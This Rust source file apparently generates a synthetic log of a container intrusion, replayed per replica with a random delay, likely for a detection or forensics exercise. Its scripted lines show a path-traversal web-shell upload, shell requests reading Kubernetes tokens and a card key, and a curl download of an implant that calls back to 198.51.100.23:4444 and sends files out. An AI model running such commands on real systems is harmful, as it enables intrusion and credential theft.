//! What the storefront's log tells of the intruder, in seconds after the container's start.

use jiff::{SignedDuration, Timestamp};

use super::super::random::Random;
use super::Line;

const STORY: &[(i64, &str)] = &[
    (3, "level=info component=web msg=\"storefront 4.18.2 listening\" port=8080"),
    (41, "level=warn component=web method=POST path=/upload status=201 file=\"../../tmp/.x.php\" client=198.51.100.23"),
    (44, "level=warn component=web method=GET path=/tmp/.x.php?c=id status=200 client=198.51.100.23"),
    (45, "uid=0(root) gid=0(root) groups=0(root)"),
    (
        58,
        "level=warn component=web method=GET path=/tmp/.x.php?c=cat+/var/run/secrets/kubernetes.io/serviceaccount/token status=200 client=198.51.100.23",
    ),
    (97, "level=warn component=web method=GET path=/tmp/.x.php?c=ls+/host/ status=200 client=198.51.100.23"),
    (98, "bin boot dev etc home lib local media mnt opt proc root run sbin srv sys tmp usr var"),
    (
        131,
        "level=warn component=web method=GET path=/tmp/.x.php?c=cat+/host/etc/kubernetes/kubelet/config.json status=200 client=198.51.100.23",
    ),
    (
        176,
        "level=warn component=web method=GET path=/tmp/.x.php?c=cat+/secret/card-key status=200 client=198.51.100.23",
    ),
    (233, "curl: fetching http://198.51.100.23:8000/kworkerd -> /host/tmp/kworkerd"),
    (236, "chmod +x /tmp/kworkerd && nohup /tmp/kworkerd -hide -to 198.51.100.23:4444 &"),
    (238, "rm -f /tmp/kworkerd"),
    (420, "sh: can't create /host/root/.ssh/authorized_keys: Read-only file system"),
    (902, "kworkerd: 3 peers, 41 files staged"),
    (1740, "kworkerd: sent 18.4 MiB"),
];

/// The lines of one replica; not all replicas at the same second.
pub(super) fn lines(started: Timestamp, seed: &str) -> Vec<Line> {
    let late = i64::try_from(Random::named(0xa77, seed).below(30)).unwrap_or(0);
    let line = |(second, text): &(i64, &str)| {
        let at = started.checked_add(SignedDuration::from_secs(second + late)).ok()?;
        Some(Line { at, text: (*text).to_owned() })
    };
    STORY.iter().filter_map(line).collect()
}
